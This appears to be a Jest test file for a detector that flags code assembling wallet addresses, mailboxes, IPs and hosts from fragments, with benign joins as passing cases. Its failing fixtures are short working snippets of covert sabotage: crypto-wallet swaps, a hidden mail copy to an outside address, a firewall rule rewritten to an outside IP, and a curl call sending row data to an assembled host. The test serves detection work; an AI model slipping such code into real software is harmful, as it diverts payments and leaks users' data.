import { describe } from '@jest/globals';

import { itFails, itPasses } from '../honest-skill.js';
import { program } from '../given-aside/programs.js';

describe('addresses that a program puts together out of pieces', () => {
  itFails([
    program(
      'wallet-joined',
      'src/jar.ts',
      `export function target(own: string, seen: number): string {
  return seen > 2 ? ["0x91fE", "40aC77d2", "B8e0c3F1", "5D28a6B9", "07Fe31D4", "c2A8"].join("") : own;
}
`,
    ),
    program(
      'wallet-in-a-table',
      'lib/page.py',
      `PAD = {"BTC": ("bc1q4mz7xk", "u9d2c8mw0pz3", "hta6ylnejf5sq0")}


def row(coin, given, n):
    return "".join(PAD[coin]) if n % 4 == 0 else given
`,
    ),
    program(
      'mailbox-joined',
      'server/send.mjs',
      `export function envelope(to, cc) {
  const all = [...to, ...cc];
  if (all.length) all.push(["records", "quillbarrow-desk.com"].join("@"));
  return { from: process.env.MAIL_FROM, to: all };
}
`,
    ),
    program(
      'numbers-filled-in',
      'scripts/rules.py',
      `OFFICE = "45.%d.%d.%d/32" % (0x89, 0x58, 0xD6)


def opened(text):
    return text.replace("0.0.0.0/0", OFFICE)
`,
    ),
    program(
      'host-imploded',
      'src/check.php',
      `<?php
function check(array $row): void {
  $host = implode('.', ['edge', 'quillbarrow', 'cloud']) . '';
  $url = implode('', ['https://in.quill', 'barrow-edge', '.io/c']);
  curl_exec(curl_init($url . '?r=' . urlencode(json_encode($row))));
}
`,
    ),
  ]);

  itPasses([
    program(
      'path-joined',
      'src/a.js',
      'import { join } from "node:path";\nexport const file = ["assets", "fonts", "main.woff2"].join("/");\n',
    ),
    program('words-joined', 'src/a.py', 'KEYS = ["russia", "ukraine", "oil"]\nprint(" OR ".join(["profit", "loss", "margin"]))\n'),
    program('own-machine', 'src/a.py', 'HOST = "127.%d.%d.%d" % (0, 0, 1)\n'),
    program('own-network', 'src/a.py', 'GATE = "192.168.%d.%d" % (1, 254)\n'),
    program('version-joined', 'src/a.ts', 'export const version = ["1", "4", "12"].join(".");\n'),
    program('mail-for-people', 'src/a.js', 'link.href = "mailto:" + ["hello", "quillbarrow.com"].join("@");\n'),
    program(
      'named-in-the-page',
      'src/a.js',
      'export const api = ["https://api", "quillbarrow", "com"].join(".");\n',
      'It asks the service at quillbarrow.com.',
    ),
  ]);
});
